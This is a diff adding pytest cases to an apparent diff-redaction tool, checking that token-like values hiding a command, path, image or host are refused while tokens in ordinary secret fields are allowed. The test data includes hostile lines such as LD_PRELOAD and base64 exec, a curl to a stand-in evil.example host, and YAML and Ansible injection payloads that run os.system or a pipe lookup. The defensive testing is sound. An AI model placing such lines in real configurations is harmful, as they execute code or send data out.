@@ -64,6 +64,64 @@ def test_command_that_is_hidden_as_one_value_is_refused(line):
         refuse_hidden(diff, shown)
 
 
+TOKEN = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z0A"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"exec {TOKEN}",
+        f"exec /opt/{TOKEN} --serve",
+        f". {TOKEN}",
+        f"sh -c {TOKEN}",
+        f"  {TOKEN} --serve",
+        f"\t@{TOKEN}",
+        f"image: registry.example:5000/{TOKEN}",
+        f"hostPath: {TOKEN}",
+        f"args: ['-c', '{TOKEN}']",
+        f'  "{TOKEN}",',
+        f"RUN {TOKEN}",
+        f"ExecStartPre={TOKEN}",
+        f"LD_PRELOAD={TOKEN}",
+        f"subprocess.run(['{TOKEN}'])",
+        f"exec(base64.b64decode('{TOKEN}'))",
+        f"curl https://{TOKEN}.evil.example/x",
+        'password: \'{{ lookup("pipe", "id") }}\'',
+        "password: !!python/object/apply:os.system ['id']",
+        "auth: {type: exec, command: /opt/evil}",
+    ],
+)
+def test_place_or_program_behind_the_mark_of_a_secret_is_refused(line):
+    """What looks like a secret may name a program, a path, an image or a host, or be a template that is carried out."""
+    diff = ["--- a/app.yaml", "+++ b/app.yaml", "@@ -1 +1 @@", "-old", f"+{line}"]
+    shown = hide_diff(diff, (), 0).lines
+    assert "redacted" in shown[4]
+
+    with pytest.raises(UserError, match="cannot be shown"):
+        refuse_hidden(diff, shown)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"git clone https://{TOKEN}@github.com/shop/app",
+        f"source: https://deploy:{TOKEN}@git.example/shop",
+        f"url: https://hooks.example/services/{TOKEN}",
+        f'curl -H "Authorization: Bearer {TOKEN}" https://api.example/x',
+        f"docker login -u bob --password {TOKEN} registry.example/shop",
+        f"token: {TOKEN}",
+        f'connect("shop", "{TOKEN}")',
+    ],
+)
+def test_secret_where_secrets_stand_may_change(line):
+    """Its place in a line says that it is a value: a person sees what it is for."""
+    diff = ["--- a/app.yaml", "+++ b/app.yaml", "@@ -1 +1 @@", "-old", f"+{line}"]
+    shown = hide_diff(diff, (), 0).lines
+    assert "redacted" in shown[4]
+
+    refuse_hidden(diff, shown)
+
+
 RANDOM = ["/xtrK40S7MRJF/W/E35rXxbPQdqwOj1OnNWyIkT8g9vctsCLSTQqW2tQ8Fh", "Qr3yIQbwhHdi8PPLTXZNxwcgURWaD4ny"]
 
 
